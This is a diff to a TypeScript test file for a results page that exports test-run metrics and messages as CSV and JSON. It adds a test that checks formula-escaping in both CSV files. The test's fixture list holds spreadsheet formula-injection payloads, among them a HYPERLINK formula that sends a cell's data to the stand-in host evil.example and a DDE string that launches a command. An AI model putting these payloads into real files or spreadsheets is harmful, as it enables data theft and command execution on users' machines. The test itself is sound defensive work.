@@ -29,14 +29,14 @@ const PROJECT = 'p1';
 const RULES: DomainRules = { v1: { inScope: ['Devis', 'Résiliation'], skipped: [], merged: [] }, v2: { kinds: [] } };
 const entry = (value: string) => ({ key: 'category', document: null, format: 'string' as const, value });
 
-function message(messageId: string, expected: string | null, obtained: string[]): TestMessageRow {
+function message(messageId: string, expected: string | null, obtained: string[], rules = RULES): TestMessageRow {
   const expectedValues = { categories: { qualified: expected !== null, values: expected === null ? [] : [entry(expected)] } };
   const obtainedValues = { categories: obtained.map(entry) };
-  const outcomes = evaluateMessage({ messageId, expected: expectedValues, obtained: obtainedValues }, ['categories'], RULES);
+  const outcomes = evaluateMessage({ messageId, expected: expectedValues, obtained: obtainedValues }, ['categories'], rules);
   return { messageId, name: `${messageId}.eml`, inBank: true, status: 'success', error: null, durationMs: 12, expected: expectedValues, obtained: obtainedValues, outcomes, firedRules: [] };
 }
 
-function run(id: string, createdAt: string, messages: TestMessageRow[]): TestRunDetail {
+function run(id: string, createdAt: string, messages: TestMessageRow[], rules = RULES): TestRunDetail {
   return {
     id,
     status: 'finished',
@@ -56,7 +56,7 @@ function run(id: string, createdAt: string, messages: TestMessageRow[]): TestRun
     finishedAt: createdAt,
     author: null,
     kinds: ['categories'],
-    rules: RULES,
+    rules,
     messages,
     metrics: metricsByKind(messages.map((row) => row.outcomes), ['categories']),
   };
@@ -78,6 +78,11 @@ const after = run('run-b', '2026-03-02T10:00:00.000Z', [
   message('m4', 'Devis', ['Sinistre']),
   message('m5', 'Devis', ['Devis']),
 ]);
+// Categories named by a tenant (and written by senders into expected values) that a spreadsheet would run.
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"ok")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\t=1+1', ' =1+1'];
+const HOSTILE_RULES: DomainRules = { v1: { inScope: HOSTILE, skipped: [], merged: [] }, v2: { kinds: [] } };
+const hostile = run('run-c', '2026-03-03T10:00:00.000Z', HOSTILE.map((value, index) => message(`h${index}`, value, [value], HOSTILE_RULES)), HOSTILE_RULES);
+
 const { messages: _a, kinds: _ak, rules: _ar, metrics: _am, ...beforeSummary } = before;
 const { messages: _b, kinds: _bk, rules: _br, metrics: _bm, ...afterSummary } = after;
 
@@ -86,6 +91,7 @@ function cachedClient(): QueryClient {
   const client = new QueryClient({ defaultOptions: { queries: { staleTime: Infinity, retry: false } } });
   client.setQueryData(testRunQueries.detail(PROJECT, before.id).queryKey, before);
   client.setQueryData(testRunQueries.detail(PROJECT, after.id).queryKey, after);
+  client.setQueryData(testRunQueries.detail(PROJECT, hostile.id).queryKey, hostile);
   client.setQueryData(testRunQueries.list(PROJECT).queryKey, [afterSummary, beforeSummary]);
   return client;
 }
@@ -143,7 +149,7 @@ describe('compare two runs', () => {
 describe('exports', () => {
   let downloads: { name: string; type: string; text: Promise<string> }[] = [];
 
-  function renderResults() {
+  function renderResults(runId = after.id) {
     downloads = [];
     // The browser's download: the blob handed to an object URL, then the link clicked with its name.
     let lastBlob: Blob | null = null;
@@ -156,7 +162,7 @@ describe('exports', () => {
       downloads.push({ name: this.download, type: lastBlob!.type, text: lastBlob!.text() });
     };
     const router = createMemoryRouter([{ path: '/project/:projectId/testing-center/messages-bank/tests/:testId', element: <ResultPage /> }], {
-      initialEntries: [`/project/${PROJECT}/testing-center/messages-bank/tests/${after.id}`],
+      initialEntries: [`/project/${PROJECT}/testing-center/messages-bank/tests/${runId}`],
     });
     render(
       <QueryClientProvider client={cachedClient()}>
@@ -168,7 +174,7 @@ describe('exports', () => {
   it('downloads the metrics as CSV: a header, every value with its counts and ratios, the special values included', async () => {
     renderResults();
     fireEvent.click(await screen.findByRole('button', { name: 'Exporter les métriques (CSV)' }));
-    expect(downloads.map((download) => [download.name, download.type])).toEqual([['test-run-b-metrics.csv', 'text/csv']]);
+    expect(downloads.map((download) => [download.name, download.type])).toEqual([['test-run-b-metrics.csv', 'text/csv;charset=utf-8']]);
     const text = await downloads[0]!.text;
     const [header, ...rows] = Papa.parse<string[]>(text.trim()).data;
     expect(header).toEqual(['kind', 'value', 'tp', 'fp', 'fn', 'precision', 'recall', 'f1', 'support']);
@@ -186,7 +192,7 @@ describe('exports', () => {
     fireEvent.click(await screen.findByRole('button', { name: 'Exporter les messages (CSV)' }));
     fireEvent.click(screen.getByRole('button', { name: 'Exporter (JSON)' }));
     expect(downloads.map((download) => [download.name, download.type])).toEqual([
-      ['test-run-b-messages.csv', 'text/csv'],
+      ['test-run-b-messages.csv', 'text/csv;charset=utf-8'],
       ['test-run-b.json', 'application/json'],
     ]);
     const [header, ...rows] = Papa.parse<string[]>((await downloads[0]!.text).trim()).data;
@@ -206,5 +212,19 @@ describe('exports', () => {
     expect(json.messages.map((entry) => entry.messageId)).toEqual(['m1', 'm2', 'm3', 'm4', 'm5']);
     expect(json.metrics.categories?.perValue.map((row) => row.value)).toEqual(expect.arrayContaining(['Devis', 'Résiliation', 'NO_QUALIFIED', 'NO_DOMAIN_RULE']));
     expect(json.metrics.categories?.micro.f1).toBeCloseTo(after.metrics.categories!.micro.f1, 10);
+  });
+
+  it('writes category names and values a spreadsheet would run as text, in both CSV files', async () => {
+    renderResults(hostile.id);
+    fireEvent.click(await screen.findByRole('button', { name: 'Exporter les métriques (CSV)' }));
+    fireEvent.click(screen.getByRole('button', { name: 'Exporter les messages (CSV)' }));
+    const [metrics, messages] = await Promise.all(downloads.map((download) => download.text));
+    const runsAsFormula = (cell: string) => /^[\s\p{Cc}]*[=+\-@]/u.test(cell);
+    const metricRows = Papa.parse<string[]>(metrics!.replace(/^\uFEFF/, '').trimEnd(), { newline: '\r\n' }).data.slice(1);
+    expect(metricRows.filter((row) => HOSTILE.includes(row[1]!.slice(1))).map((row) => row[1])).toEqual(expect.arrayContaining(HOSTILE.map((value) => `'${value}`)));
+    expect(metricRows.flat().filter(runsAsFormula)).toEqual([]);
+    const messageRows = Papa.parse<string[]>(messages!.replace(/^\uFEFF/, '').trimEnd(), { newline: '\r\n' }).data.slice(1);
+    expect(messageRows.map((row) => row[3])).toEqual(expect.arrayContaining(HOSTILE.map((value) => `'${value}`)));
+    expect(messageRows.flat().filter(runsAsFormula)).toEqual([]);
   });
 });
